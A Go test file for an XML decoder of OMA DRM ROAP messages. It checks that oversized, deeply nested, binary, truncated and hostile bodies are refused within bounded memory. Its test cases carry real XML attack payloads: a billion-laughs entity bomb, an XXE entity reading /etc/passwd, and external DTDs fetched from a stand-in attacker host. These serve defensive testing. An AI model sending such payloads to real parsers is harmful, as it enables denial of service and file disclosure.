package decode

import (
	"bytes"
	"errors"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Hostile and broken bodies: every one must come back as a Message with the right finding, in
// bounded memory, and without reaching code that grows with the input past the limits.

func fxWantFinding(t *testing.T, m *Message, rule string, sev Severity) {
	t.Helper()
	if m == nil {
		t.Fatal("Decode returned nil")
	}
	for _, f := range m.Findings {
		if f.Rule == rule && f.Severity == sev {
			return
		}
	}
	t.Errorf("want a %s %s finding; got %v (reason %q)", sev, rule, fxFindingIDs(m), m.Reason)
}

func fxNoInternalError(t *testing.T, m *Message, what string) {
	t.Helper()
	if m == nil {
		t.Fatalf("%s: Decode returned nil", what)
	}
	if strings.Contains(m.Reason, "internal decoder error") {
		t.Fatalf("%s: decoder panicked: %v", what, m.Findings)
	}
	for _, n := range m.Nested {
		fxNoInternalError(t, n, what+" (nested)")
	}
}

func TestLimitHugeBody(t *testing.T) {
	body := make([]byte, 10<<20)
	copy(body, "<roap:roRequest xmlns:roap=\"urn:oma:bac:dldrm:roap-1.0\"><nonce>")
	for i := 64; i < len(body); i++ {
		body[i] = 'A'
	}
	m := Decode(body, Hint{ContentType: MIMEPDU})
	fxWantFinding(t, m, "DEC-LIMIT", SevError)
	if m.Kind != "unknown" || !strings.Contains(m.Reason, "decode limit") || !strings.Contains(m.Reason, "exceeds") {
		t.Errorf("kind %q reason %q", m.Kind, m.Reason)
	}
	if !bytes.Equal(m.Raw, body) {
		t.Error("the body is not kept for forwarding")
	}
	// Refusing the body must not touch it: no copy, no scan. 1 MB is a tenth of the body.
	if got := fxAllocBytes(5, func() { Decode(body, Hint{ContentType: MIMEPDU}) }); got >= 1<<20 {
		t.Errorf("decoding a 10 MB body allocates %d bytes; want < 1 MB", got)
	} else {
		t.Logf("10 MB body: %d bytes allocated per Decode", got)
	}
}

func TestLimitDeepNesting(t *testing.T) {
	const depth = 10_000
	body := []byte(strings.Repeat("<a>", depth) + strings.Repeat("</a>", depth))
	m := Decode(body, Hint{})
	fxWantFinding(t, m, "DEC-LIMIT", SevError)
	if !strings.Contains(m.Reason, "deeper than 64") {
		t.Errorf("reason %q", m.Reason)
	}
	// The scanner must stop at the 65th start tag, not after descending further.
	_, err := ParseXML(body, DefaultLimits)
	var se *SyntaxError
	if !errors.As(err, &se) || !se.Limit || se.Offset != 64*len("<a>") {
		t.Errorf("error %v; want a limit error at offset %d", err, 64*len("<a>"))
	}
	// Memory is one string copy of the body plus what 64 levels need, not 10,000 levels.
	if got := fxAllocBytes(5, func() { Decode(body, Hint{}) }); got > uint64(len(body))+128<<10 {
		t.Errorf("10,000-deep body of %d bytes allocates %d bytes per Decode; want < body + 128 KB", len(body), got)
	}
	// A body of the largest allowed size, nested all the way, is refused the same way.
	huge := bytes.Repeat([]byte("<a>"), DefaultLimits.MaxBytes/3)
	if m := Decode(huge, Hint{}); !m.Has("DEC-LIMIT") {
		t.Errorf("%d-deep body: %v", len(huge)/3, fxFindingIDs(m))
	}
}

func TestLimitEntityBombs(t *testing.T) {
	laughs := `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<roap:roRequest xmlns:roap="urn:oma:bac:dldrm:roap-1.0"><nonce>&lol9;</nonce></roap:roRequest>`
	cases := map[string]string{
		"billion laughs": laughs,
		"XXE system entity": `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
			`<roap:roRequest xmlns:roap="urn:oma:bac:dldrm:roap-1.0"><nonce>&xxe;</nonce></roap:roRequest>`,
		"XXE parameter entity":    `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><r/>`,
		"external DTD":            `<!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd"><r>&ent;</r>`,
		"DOCTYPE after a comment": `<!-- hi --><!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>`,
		"DOCTYPE after the root":  `<r/><!DOCTYPE r>`,
	}
	for name, body := range cases {
		t.Run(name, func(t *testing.T) {
			m := Decode([]byte(body), Hint{ContentType: MIMEPDU})
			fxNoInternalError(t, m, name)
			if name == "DOCTYPE after the root" {
				fxWantFinding(t, m, "DEC-XML-MALFORMED", SevError)
			} else {
				fxWantFinding(t, m, "DEC-XML-DTD", SevError)
				if m.Reason != "DTD refused" {
					t.Errorf("reason %q", m.Reason)
				}
			}
			if m.Root != nil || m.Kind != "unknown" {
				t.Errorf("a refused body was decoded: kind %q", m.Kind)
			}
			if got := fxAllocBytes(5, func() { Decode([]byte(body), Hint{ContentType: MIMEPDU}) }); got > 16<<10 {
				t.Errorf("allocates %d bytes per Decode; an entity was expanded or the body copied", got)
			}
		})
	}
	// An entity reference without any DTD is just undefined: refused, never resolved.
	m := Decode([]byte(`<roap:roRequest xmlns:roap="urn:oma:bac:dldrm:roap-1.0"><nonce>&xxe;</nonce></roap:roRequest>`), Hint{ContentType: MIMEPDU})
	fxWantFinding(t, m, "DEC-XML-MALFORMED", SevError)
	if !strings.Contains(m.Reason, "undefined entity &xxe;") {
		t.Errorf("reason %q", m.Reason)
	}
}

func TestLimitBinaryJunk(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"), make([]byte, 4096)...)
	bodies := map[string][]byte{"PNG": png}
	for i := range 8 {
		b := make([]byte, 64+rng.IntN(8192))
		for j := range b {
			b[j] = byte(rng.Uint32())
		}
		b[0] = 0xFF // not '<', white space, a BOM or the WBXML header: the junk is not XML
		bodies["random "+string(rune('0'+i))] = b
	}
	for name, body := range bodies {
		for _, ct := range []string{"", "application/octet-stream", "image/png", "text/html; charset=utf-8"} {
			m := Decode(body, Hint{ContentType: ct})
			fxNoInternalError(t, m, name)
			if m.Kind != "unknown" || m.Family != FamilyUnknown || m.Reason == "" {
				t.Errorf("%s as %q: kind %q family %q reason %q", name, ct, m.Kind, m.Family, m.Reason)
			}
			if m.Worst() == SevError {
				t.Errorf("%s as %q: an error finding for a body that claims nothing: %v", name, ct, fxFindingIDs(m))
			}
			fxWantFinding(t, m, "DEC-NOT-XML", SevInfo)
		}
		for _, ct := range []string{MIMEPDU, MIMETrig + "; charset=utf-8", MIMERO} {
			m := Decode(body, Hint{ContentType: ct})
			fxWantFinding(t, m, "DEC-NOT-XML", SevError)
		}
	}
}

func TestLimitManySiblings(t *testing.T) {
	body := []byte("<r>" + strings.Repeat("<b/>", 200_000) + "</r>")
	m := Decode(body, Hint{})
	fxWantFinding(t, m, "DEC-LIMIT", SevError)
	if !strings.Contains(m.Reason, "more than 100000 nodes") {
		t.Errorf("reason %q", m.Reason)
	}
	// Memory is bounded by the node limit, not by the body: five times more siblings cost the
	// same, and the total stays near MaxNodes nodes.
	small := fxAllocBytes(2, func() { Decode(body, Hint{}) })
	bigger := []byte("<r>" + strings.Repeat("<b/>", 1_000_000) + "</r>")
	big := fxAllocBytes(2, func() { Decode(bigger, Hint{}) })
	t.Logf("200,000 siblings: %d bytes; 1,000,000 siblings: %d bytes", small, big)
	if big > small+small/4 {
		t.Errorf("memory grows with the body past the node limit: %d -> %d bytes", small, big)
	}
	// The string copy of the body is part of the cost, then ~200 bytes per node.
	if limit := uint64(len(bigger)) + uint64(DefaultLimits.MaxNodes)*256; big > limit {
		t.Errorf("%d bytes for a %d-byte body; want < %d", big, len(bigger), limit)
	}
}

func TestLimitManyAttributes(t *testing.T) {
	var b strings.Builder
	b.WriteString("<r")
	for i := range 100_000 {
		b.WriteString(" a")
		b.WriteString(strings.Repeat("x", i%7))
		b.WriteString(string(rune('a' + i%26)))
		b.WriteString(`="1"`)
	}
	b.WriteString("/>")
	body := []byte(b.String())
	m := Decode(body, Hint{})
	fxWantFinding(t, m, "DEC-LIMIT", SevError)
	if !strings.Contains(m.Reason, "more than 256 attributes") {
		t.Errorf("reason %q", m.Reason)
	}
	// 256 distinct attributes are fine; the duplicate check stays O(k log k) on them.
	var ok strings.Builder
	ok.WriteString("<r")
	for i := range 256 {
		ok.WriteString(" a" + strings.Repeat("z", i/26) + string(rune('a'+i%26)) + `="v"`)
	}
	ok.WriteString("/>")
	if _, err := ParseXML([]byte(ok.String()), DefaultLimits); err != nil {
		t.Errorf("256 attributes: %v", err)
	}
	// Many namespace declarations in scope are capped too (every prefix lookup scans them).
	var ns strings.Builder
	for level := range 60 {
		ns.WriteString("<e")
		for k := range 5 {
			ns.WriteString(" xmlns:p" + strings.Repeat("q", level) + string(rune('a'+k)) + `="urn:x"`)
		}
		ns.WriteString(">")
	}
	if m := Decode([]byte(ns.String()), Hint{}); !strings.Contains(m.Reason, "more than 256 namespace declarations in scope") {
		t.Errorf("300 declarations over 60 levels: reason %q", m.Reason)
	}
}

// TestLimitTextRuns: a text node broken by thousands of comments or CDATA sections must be
// assembled in linear time and memory (each piece appended once, not the whole run copied per
// piece).
func TestLimitTextRuns(t *testing.T) {
	const pieces = 200_000
	body := []byte("<r>" + strings.Repeat("x<!---->", pieces) + "<![CDATA[y]]></r>")
	doc, err := ParseXML(body, DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	if got := doc.Root.TextContent(); len(got) != pieces+1 || !strings.HasSuffix(got, "xy") {
		t.Fatalf("text run of %d bytes", len(got))
	}
	// Quadratic assembly would allocate ~pieces²/2 = 20 GB here.
	if got := fxAllocBytes(2, func() { ParseXML(body, DefaultLimits) }); got > uint64(8*len(body)) {
		t.Errorf("a %d-byte body with a %d-piece text run allocates %d bytes", len(body), pieces, got)
	}
}

// TestLimitTruncation decodes every prefix of real messages: the decoder must never panic, must
// always report something, and ParseXML must refuse exactly the prefixes that end before the
// root element does.
func TestLimitTruncation(t *testing.T) {
	bodies := map[string][]byte{
		"built roRequest":             fxRORequest(t),
		"built TokenDeliveryResponse": fxTokenDeliveryResponse(t),
	}
	for _, name := range []string{
		"sce-synthetic-rdpProxyLeaveUserDomainRequest.xml",
		"token-synthetic-TokenDeliveryResponse-2pass-success.xml",
		"trigger-roAcquisition.coremedia-iop.xml",
	} {
		if raw, err := os.ReadFile(filepath.Join(fxVectorsDir, name)); err == nil {
			bodies[name] = raw
		}
	}
	for name, raw := range bodies {
		doc, err := ParseXML(raw, DefaultLimits)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for i := 0; i < len(raw); i++ {
			cut := raw[:i]
			m := Decode(cut, Hint{ContentType: MIMEPDU})
			fxNoInternalError(t, m, name)
			_, perr := ParseXML(cut, DefaultLimits)
			switch {
			case i < doc.Root.End:
				if perr == nil {
					t.Fatalf("%s cut at %d of %d parses", name, i, len(raw))
				}
				if m.Worst() != SevError {
					t.Fatalf("%s cut at %d: no error finding: %v", name, i, fxFindingIDs(m))
				}
				var se *SyntaxError
				if errors.As(perr, &se) && (se.Offset < 0 || se.Offset > i) {
					t.Fatalf("%s cut at %d: error offset %d is outside the body", name, i, se.Offset)
				}
			default:
				if perr != nil {
					t.Fatalf("%s cut at %d, after the root, does not parse: %v", name, i, perr)
				}
			}
		}
	}
}
